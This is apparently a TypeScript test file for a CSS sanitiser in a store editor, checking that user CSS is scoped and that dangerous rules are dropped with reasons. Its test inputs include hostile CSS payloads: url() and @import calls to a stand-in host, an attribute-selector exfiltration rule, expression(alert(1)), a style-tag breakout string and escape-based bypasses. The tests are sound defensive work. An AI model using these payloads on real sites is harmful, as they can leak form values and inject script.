import { describe, expect, it } from 'vitest';
import { cssVerdict, sanitiseCss } from './sanitise-css';

const body = (css: string) =>
  sanitiseCss(css)
    .replace(/^@scope \(\.store-content\)\{/, '')
    .replace(/\}$/, '');

describe('sanitiseCss', () => {
  it('keeps ordinary rules, scoped to the store content and unlayered, so they can override the app', () => {
    expect(sanitiseCss('.hero h1 { color: #0b6e35; font-weight: 800 }')).toBe(
      '@scope (.store-content){.hero h1{color:#0b6e35;font-weight:800}}',
    );
    expect(body('@media (min-width: 768px) { .a { margin: 0 auto } }')).toBe('@media (min-width:768px){.a{margin:0 auto}}');
  });

  it('is empty for empty input', () => {
    expect(sanitiseCss('   ')).toBe('');
  });

  it.each([
    ['@import', '@import url("https://evil.example/x.css"); .a{color:red}'],
    ['@import string', '@import "https://evil.example/x.css"; .a{color:red}'],
    ['@font-face', '@font-face { font-family: x; src: url(https://evil.example/f.woff) } .a{color:red}'],
    ['@namespace', '@namespace svg url(http://www.w3.org/2000/svg); .a{color:red}'],
    ['@charset', '@charset "utf-8"; .a{color:red}'],
    ['@property', '@property --x { syntax: "<length>"; inherits: false; initial-value: 0px } .a{color:red}'],
  ])('drops %s', (_name, css) => {
    expect(body(css)).toBe('.a{color:red}');
  });

  it.each([
    ['url()', '.a{background:url(https://evil.example/?leak)}'],
    ['url() with quotes', '.a{background-image:url("https://evil.example")}'],
    ['image-set()', '.a{background:image-set("https://evil.example/a.png" 1x)}'],
    ['-webkit-image-set()', '.a{background:-webkit-image-set(url(x) 1x)}'],
    ['attr()', '.a::after{content:attr(data-secret)}'],
    ['image()', '.a{background:image("x.png")}'],
    ['cross-fade()', '.a{background:cross-fade(url(a) 50%, url(b))}'],
    ['element()', '.a{background:element(#secret)}'],
    ['expression()', '.a{width:expression(alert(1))}'],
    ['env()', '.a{padding:env(safe-area-inset-top)}'],
    ['an escaped url (\\75 rl)', '.a{background:\\75 rl(https://evil.example)}'],
    ['any backslash', '.a{font-family:"\\61"}'],
    ['a < in a value', '.a{content:"</style><script>"}'],
    ['behavior', '.a{behavior:something}'],
    ['-moz-binding', '.a{-moz-binding:something}'],
    ['attribute-selector exfiltration', 'input[value^="a"]{background:url(https://evil.example/a)}'],
  ])('drops a declaration with %s', (_name, css) => {
    expect(sanitiseCss(css)).not.toMatch(/url|image|attr|cross-fade|element\(|expression|env\(|\\|<|behavior|binding/i);
  });

  it('keeps the safe declarations next to a dropped one', () => {
    expect(body('.a{color:red;background:url(x);margin:0}')).toBe('.a{color:red;margin:0}');
  });

  it('survives garbage', () => {
    for (const css of ['}}}{{{', '.a{', '@media {', '/* unterminated', '\u0000\u2028', 'a'.repeat(10_000)]) {
      expect(() => sanitiseCss(css)).not.toThrow();
      expect(sanitiseCss(css)).not.toMatch(/url\(|<|\\/);
    }
  });
});

// Issue 22, item 1: the editor shows the sanitiser's verdict before saving: what is dropped and why.
describe('cssVerdict', () => {
  it('names each rule and declaration it drops, why, and on which line', () => {
    const { css, dropped } = cssVerdict(
      [
        '@import url(https://evil.example/x.css);',
        '.a { color: red; background: url(https://evil.example/track.png); }',
        '.b { background-image: image-set("x.png" 1x); width: 10px }',
        '@font-face { font-family: X; src: url(x.woff) }',
        '.c { behavior: url(x.htc) }',
        '.d { color: \\72 ed }',
      ].join('\n'),
    );
    expect(dropped.map(({ what, why, line }) => [what.replace(/\s/g, ''), why, line])).toEqual([
      ['@import', 'it loads another stylesheet', 1],
      ['@font-face', 'it loads a font file (the website’s font is set in the theme)', 4],
      ['background:url(https://evil.example/track.png)', 'url() loads or reads something from outside the page', 2],
      ['background-image:image-set("x.png"1x)', 'image-set() loads or reads something from outside the page', 3],
      ['behavior:url(x.htc)', 'behavior runs code in old browsers', 5],
      ['color:\\72ed', 'a backslash escape can spell a forbidden function', 6],
    ]);
    expect(css).toContain('color:red');
    expect(css).toContain('width:10px');
    expect(css).not.toMatch(/url|image-set|behavior|@import|@font-face/);
  });

  it('drops nothing from safe CSS and gives the same result as sanitiseCss', () => {
    const safe = '.promo { color: #0b6e35; border-radius: 8px } @media (min-width: 768px) { .promo { padding: 2rem } }';
    expect(cssVerdict(safe)).toEqual({ css: sanitiseCss(safe), dropped: [] });
    expect(cssVerdict('   ')).toEqual({ css: '', dropped: [] });
  });

  it('says what it could not read', () => {
    const { dropped } = cssVerdict('.a { color: red } }}} garbage {{');
    expect(dropped.some((drop) => drop.why === 'it could not be read as CSS')).toBe(true);
  });
});
